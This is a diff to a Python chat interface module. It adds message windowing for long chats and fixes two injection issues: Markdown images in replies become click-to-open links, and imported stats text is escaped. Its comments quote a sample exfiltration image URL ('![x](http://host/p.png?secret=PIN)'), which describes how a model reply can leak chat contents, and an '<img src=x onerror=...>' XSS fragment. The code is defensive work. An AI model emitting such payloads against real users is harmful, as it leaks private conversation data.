@@ -10,11 +10,11 @@ Markdown alone. ``ViewMessage.source`` maps each shown message back to the store
 from __future__ import annotations
 
 import re
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from datetime import datetime
 
 from .live import LiveReply
-from .store import ChatSettings, Conversation, ConversationSummary, Message
+from .store import ChatSettings, Conversation, ConversationSummary, Message, MessageStats
 
 
 
@@ -47,6 +47,7 @@ class ViewMessage:
 
     shown: dict
     source: Message | None
+    earlier: int = 0  # the "Show earlier messages" line: how many messages of the path are not shown
 
     @property
     def is_line(self) -> bool:
@@ -97,9 +98,30 @@ def is_failed(message: Message) -> bool:
     return message.role == "assistant" and message.stats is not None and message.stats.finish_reason == "error"
 
 
-def view_messages(conv: Conversation | None, live: LiveReply | None = None, busy: bool = False) -> list[ViewMessage]:
+# A chat shows the last WINDOW messages of its path at first; a line above them, "Show N earlier
+# messages", shows WINDOW more at each click (a 100,000-message chat crashed the browser's tab).
+WINDOW = 200
+
+
+def windowed(conv: Conversation, window: int) -> tuple[Conversation, int]:
+    """``conv`` with only the last ``window`` messages of its path, and how many are left out before them."""
+    hidden = max(0, len(conv.messages) - window)
+    return (replace(conv, messages=conv.messages[hidden:]) if hidden else conv), hidden
+
+
+def earlier_line(hidden: int) -> ViewMessage:
+    """The line above a chat shown in part: a click on it shows up to WINDOW more messages."""
+    more = min(hidden, WINDOW)
+    rest = f" (of {hidden:,} not shown)" if hidden > more else ""
+    return ViewMessage({"role": "assistant", "content": f"⤒ **Show {more:,} earlier {'message' if more == 1 else 'messages'}**{rest}: click here"},
+                       None, earlier=hidden)
+
+
+def view_messages(conv: Conversation | None, live: LiveReply | None = None, busy: bool = False,
+                  window: int | None = None) -> list[ViewMessage]:
     """The conversation as the chat shows it; the live reply's text replaces its stored copy
-    (which is written only every half second). ``busy``: the chat has a reply running or queued,
+    (which is written only every half second); ``window``: show only the last so many messages
+    (``windowed``), under ``earlier_line``. ``busy``: the chat has a reply running or queued,
     so a question at its end waits for its turn (and says so); a question at the end of a chat
     that is not busy was left unanswered, and says that instead. These lines sit where the
     question's reply goes, on the model's side, all of them: "waiting" sat on the user's side and
@@ -108,6 +130,10 @@ def view_messages(conv: Conversation | None, live: LiveReply | None = None, busy
     if conv is None:
         return []
     out: list[ViewMessage] = []
+    if window is not None:  # the last ``window`` messages, under a line that shows earlier ones
+        conv, hidden = windowed(conv, window)
+        if hidden:
+            out.append(earlier_line(hidden))
     trailing = set()  # the questions at the chat's end, after its last reply: waiting, or left unanswered
     for j in range(len(conv.messages) - 1, -1, -1):
         if conv.messages[j].role != "user":
@@ -144,8 +170,8 @@ def view_messages(conv: Conversation | None, live: LiveReply | None = None, busy
             continue
         if is_failed(m):
             continue
-        line = "replying…" if streaming else (m.stats.summary() if m.stats else "")
-        line = " · ".join(x for x in (version, line, m.model if line else None) if x)
+        line = "replying…" if streaming else (shown_stats(m.stats).summary() if m.stats else "")
+        line = " · ".join(x for x in (version, line, markdown_literal(m.model) if line and m.model else None) if x)
         if line:
             # status "done": collapsed, and no spinner (an animation costs a software-rendered
             # browser as much CPU as the engine gets)
@@ -169,7 +195,7 @@ _OPENS_HTML = re.compile(r"<(?=[A-Za-z/!?])|&(?=#?[A-Za-z0-9]+;)")
 
 def shown_literally(text: str) -> str:
     """``text`` (Markdown) with its HTML marked to show as typed (MARK)."""
-    if "<" not in text and "&" not in text:
+    if "<" not in text and "&" not in text and "![" not in text:
         return text
     out, prose, fence = [], [], None
     for line in text.splitlines(keepends=True):
@@ -190,10 +216,50 @@ def shown_literally(text: str) -> str:
 def _mark_prose(text: str) -> str:
     parts, at = [], 0
     for kept in _KEPT.finditer(text):
-        parts += [_OPENS_HTML.sub(lambda m: m.group(0) + MARK, text[at:kept.start()]), kept.group(0)]
+        parts += [_mark_span(text[at:kept.start()]), kept.group(0)]
         at = kept.end()
-    parts.append(_OPENS_HTML.sub(lambda m: m.group(0) + MARK, text[at:]))
+    parts.append(_mark_span(text[at:]))
     return "".join(parts)
+
+
+def _mark_span(text: str) -> str:
+    return _OPENS_HTML.sub(lambda m: m.group(0) + MARK, images_as_links(text))
+
+
+# An image in a message is not loaded: a model's reply (or a pasted text) could name a URL that
+# carries what the chat says to another host ("![x](http://host/p.png?secret=PIN)" was fetched as
+# soon as the chat opened; issue 41, item 6). A Markdown image shows as a link to it, "🖼 x · image
+# from host — click to open", which a click opens; its alt text sits between two IMAGE_MARKs
+# (invisible), so that ``typed_text`` turns the link back into the image as typed (Copy, ✎). Any
+# other "![" (a reference image, one this pattern does not read) gets a MARK after its "!": no
+# longer an image. HTML <img> is shown as typed, as all HTML in a message; the page's
+# Content-Security-Policy (app/page_csp.py) is the second guard. Outside code, as the HTML marks.
+IMAGE_MARK = "\u2062"
+_IMAGE = re.compile(r"!\[((?:[^\[\]\\\n]|\\.){0,500})\]\(([^()\n]*)\)")
+_IMAGE_LINK = re.compile(r"\[🖼 \u2062([^\u2062]*)\u2062[^\]\u2062]*\]\(")  # what typed_text turns back
+
+
+def images_as_links(text: str) -> str:
+    """``text`` (Markdown prose) with each image as a link to it (see above)."""
+    if "![" not in text:
+        return text
+    parts, at = [], 0
+    for m in _IMAGE.finditer(text):
+        before = text[at:m.start()].replace("![", "!" + MARK + "[")
+        before += MARK if before.endswith("!") else ""  # "!" and the link would be an image again
+        parts += [before, _image_link(m.group(1), m.group(2))]
+        at = m.end()
+    parts.append(text[at:].replace("![", "!" + MARK + "["))
+    return "".join(parts)
+
+
+def _image_link(alt: str, inside: str) -> str:
+    from urllib.parse import urlsplit
+
+    url = (inside.split() or [""])[0].strip("<>")
+    host = urlsplit(url).hostname if "//" in url else None
+    where = f"image from {markdown_literal(host)}" if host else "image"
+    return f"[🖼 {IMAGE_MARK}{alt}{IMAGE_MARK}{' · ' if alt.strip() else ''}{where} — click to open]({inside})"
 
 
 # A name, a path or a reason shown inside a sentence of Markdown (the models panel, the import's
@@ -213,7 +279,9 @@ def markdown_literal(text) -> str:
 
 def typed_text(shown: str) -> str:
     """A message's text as the user typed it, from the text the page showed (``shown_literally``)."""
-    return shown.replace("<" + MARK, "<").replace("&" + MARK, "&")
+    if IMAGE_MARK in shown:
+        shown = _IMAGE_LINK.sub(lambda m: "![" + m.group(1) + "](", shown)
+    return shown.replace("<" + MARK, "<").replace("&" + MARK, "&").replace("!" + MARK, "!")
 
 
 THINK_OPEN, THINK_CLOSE = "<think>", "</think>"
@@ -242,13 +310,20 @@ def split_thinking(text: str) -> list[tuple[str, bool, bool]]:
     return [(t.strip(), thinking, still_open) for t, thinking, still_open in parts if t.strip()]
 
 
+def shown_stats(stats: MessageStats) -> MessageStats:
+    """A reply's stats with their text escaped for the line under it (Markdown, which passes HTML
+    on): ``stopped_by`` is ours ("switch to <model>") or, in an imported chat, the file's, like its
+    ``model`` (issue 41, item 7: "<img src=x onerror=...>**bold**" was rendered as HTML there)."""
+    return replace(stats, stopped_by=markdown_literal(stats.stopped_by)) if stats.stopped_by else stats
+
+
 def ending(m: Message, streaming: bool) -> str:
     """The stats line's details: how the reply ended."""
     if streaming:
         return "The reply is streaming; Stop (or Escape) ends it."
     reason = m.stats.finish_reason if m.stats else None
     if m.stats is not None and m.stats.stopped:
-        return f"Stopped before the end ({m.stats.stopped_by})." if m.stats.stopped_by else "Stopped before the end."
+        return f"Stopped before the end ({markdown_literal(m.stats.stopped_by)})." if m.stats.stopped_by else "Stopped before the end."
     return {"stop": "The model finished its answer.", "length": "Cut at this chat's max tokens (Settings)."}.get(reason or "", "Ended.")
 
 
